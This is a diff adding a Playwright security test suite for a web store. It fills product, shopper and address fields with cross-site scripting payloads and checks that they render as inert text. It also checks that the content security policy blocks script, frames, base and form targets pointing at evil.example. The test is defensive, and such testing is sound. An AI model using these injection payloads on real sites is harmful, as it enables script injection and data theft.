@@ -1,0 +1,172 @@
+import type { Page } from '@playwright/test'
+import { calls } from '../src/contract/calls.ts'
+import { AN_ADDRESS } from '../src/server/testing/an-address.ts'
+import { addProduct, loginSeller, SELLER_TOKEN, SHOPPER_TOKEN, strangerTest as test } from './seller-area.ts'
+import type { StoreProcess } from './store-process.ts'
+import { expect, pageReady } from './test.ts'
+
+// Each would call `struck`, where a page took it for more than text.
+const IMG = '<img src=x onerror=struck()>'
+const SCRIPT = '</script><script>struck()</script>'
+const LINE = `"'><svg onload=struck()><a href="javascript:struck()">x</a>{{struck()}}\u202e\u2067\u0001\u007f`
+
+const PRODUCT = {
+  name: `${SCRIPT}${IMG}`,
+  category: `${SCRIPT}&`,
+  weight: IMG,
+  description: [LINE, `${SCRIPT}--><!--`],
+  price: 2,
+  offerPrice: 1.5,
+}
+const SHOPPER = { name: `${SCRIPT}${IMG}`, password: 'a long password' }
+const ADDRESS = {
+  ...AN_ADDRESS,
+  firstName: IMG,
+  lastName: SCRIPT,
+  email: "maya+o'hara@example.com",
+  street: LINE,
+  city: `javascript:struck()`,
+  state: IMG,
+  country: SCRIPT,
+  phone: IMG,
+}
+
+/** The store with one product, one shopper and one order, all of them written by somebody who means harm. */
+async function fillStore(store: StoreProcess) {
+  const seller = await loginSeller(store)
+  const post = async (path: string, body: unknown, token = '') => {
+    const headers = { 'content-type': 'application/json', token }
+    return (await fetch(store.url + path, { method: 'POST', headers, body: JSON.stringify(body) })).json()
+  }
+  const product = await addProduct(store, seller, PRODUCT)
+  const { token } = await post(calls.registerShopper, { ...SHOPPER, email: `${crypto.randomUUID()}@example.com` })
+  const { address } = await post(calls.addAddress, ADDRESS, token)
+  const order = { items: [{ product: product._id, quantity: 1 }], address: address._id }
+  expect(await post(calls.placeCashOrder, order, token)).toMatchObject({ success: true })
+  await post(calls.updateCart, { cartItems: { [product._id]: 2 } }, token)
+  return { product, shopper: token, seller }
+}
+
+/** What of the page as it stands could run because somebody's text was taken for markup. */
+const livingMarkup = (page: Page) =>
+  page.evaluate(() => {
+    const handlers = [...document.querySelectorAll('*')].flatMap((element) =>
+      element.getAttributeNames().filter((name) => name.startsWith('on')),
+    )
+    const places = document.querySelectorAll(
+      'img[src="x"], svg[onload], a[href^="javascript:" i], script:not([src]):not([type="application/json"]):not([type="application/ld+json"])',
+    )
+    return [...handlers, ...[...places].map((place) => place.outerHTML)]
+  })
+
+for (const bypassCSP of [false, true]) {
+  test.describe(bypassCSP ? 'with the content security policy switched off' : 'with the content security policy', () => {
+    test.use({ bypassCSP })
+
+    test('what people wrote is text on every screen that shows it', async ({ page, store }) => {
+      test.setTimeout(120_000)
+      let strikes = 0
+      await page.exposeFunction('struck', () => {
+        strikes += 1
+      })
+      const { product, shopper, seller } = await fillStore(store)
+      await page.addInitScript(
+        (tokens) => {
+          for (const [key, token] of Object.entries(tokens)) localStorage.setItem(key, token)
+        },
+        { [SHOPPER_TOKEN]: shopper, [SELLER_TOKEN]: seller },
+      )
+      const category = `/products/${encodeURIComponent(product.category.toLowerCase())}`
+      const screens: [path: string, text: string][] = [
+        ['/', PRODUCT.name],
+        ['/products', PRODUCT.name],
+        [`/products?q=${encodeURIComponent(PRODUCT.name)}`, PRODUCT.name],
+        [`/products?q=${encodeURIComponent(`${LINE}${SCRIPT}`)}`, '</script>'],
+        [category, PRODUCT.name],
+        [`${category}/${product._id}`, PRODUCT.description[1] ?? ''],
+        ['/cart', IMG],
+        ['/my-orders', IMG],
+        ['/seller/product-list', PRODUCT.name],
+        ['/seller/orders', 'javascript:struck()'],
+      ]
+      for (const [path, text] of screens) {
+        await page.goto(path)
+        await expect(page.getByText(text).first(), path).toBeVisible()
+        if (!path.startsWith('/seller')) await pageReady(page)
+        expect(await livingMarkup(page), path).toEqual([])
+      }
+      await page.goto(`${category}/${product._id}`)
+      expect(await page.title()).toContain('</script>')
+      await page.getByRole('button', { name: /, your account$/ }).click()
+      await expect(page.getByRole('link', { name: 'My Orders' })).toBeVisible()
+      expect(await livingMarkup(page)).toEqual([])
+      const facts = await page.locator('script[type="application/ld+json"]').allTextContents()
+      expect(facts.map((block) => JSON.parse(block)).find((block) => block['@type'] === 'Product')).toMatchObject({
+        name: PRODUCT.name,
+      })
+      expect(await page.locator('meta[property="og:title"]').getAttribute('content')).toContain(SCRIPT)
+      expect(
+        await page.evaluate(() =>
+          fetch('/sitemap.xml').then(
+            async (sitemap) =>
+              new DOMParser().parseFromString(await sitemap.text(), 'application/xml').querySelectorAll('parsererror').length,
+          ),
+        ),
+      ).toBe(0)
+      await page.evaluate(() => {
+        for (const link of document.querySelectorAll<HTMLAnchorElement>('main a'))
+          if (link.protocol === 'javascript:') link.click()
+      })
+      expect(strikes).toBe(0)
+    })
+  })
+}
+
+test.describe('script that somebody got into a page all the same', () => {
+  test.use({
+    expectedOnConsole: [/violates the following Content Security Policy|Refused to|ERR_BLOCKED_BY_CSP|blocked by CSP|'script-src' was not explicitly set/i],
+  })
+
+  test('does not run, inline, as a handler, from elsewhere or by eval, and the browser reports it', async ({ page }) => {
+    let strikes = 0
+    await page.exposeFunction('struck', () => {
+      strikes += 1
+    })
+    await page.goto('/contact')
+    await pageReady(page)
+    const blocked = await page.evaluate(async () => {
+      const directives: string[] = []
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.push(effectiveDirective))
+      const insert = (markup: string) => document.body.append(document.createRange().createContextualFragment(markup))
+      insert('<script>struck()</script>')
+      insert('<img src="data:," onerror="struck()">')
+      insert('<a id="lead" href="javascript:struck()">x</a>')
+      document.getElementById('lead')?.click()
+      insert('<script src="https://evil.example/x.js"></script>')
+      insert('<iframe src="https://evil.example/"></iframe>')
+      insert('<base href="https://evil.example/">')
+      insert('<form id="form" action="https://evil.example/"></form>')
+      document.querySelector<HTMLFormElement>('#form')?.submit()
+      setTimeout('struck()') // text as program, once this function, which has leave to do so, is over
+      await new Promise((resolve) => setTimeout(resolve, 500)) // reports come when the browser finds time
+      return directives
+    })
+    for (const directive of ['script-src-elem', 'script-src-attr', 'frame-src', 'base-uri', 'form-action', 'script-src']) {
+      expect(blocked).toContain(directive)
+    }
+    expect(strikes).toBe(0)
+  })
+})
+
+test('no other site frames the store or learns more of it than its origin', async ({ page }) => {
+  for (const path of ['/', '/cart', calls.listProducts, '/nothing']) {
+    const headers = (await page.request.get(path)).headers()
+    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
+    expect(headers['content-security-policy']).not.toMatch(/(script|default)-src[^;]*(unsafe|\*|data:)/)
+    expect(headers['x-frame-options']).toBe('DENY')
+    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin')
+    expect(headers['permissions-policy']).toMatch(/camera=\(\).*geolocation=\(\)/)
+    expect(headers['x-content-type-options']).toBe('nosniff')
+    expect(headers['cross-origin-opener-policy']).toBe('same-origin')
+  }
+})
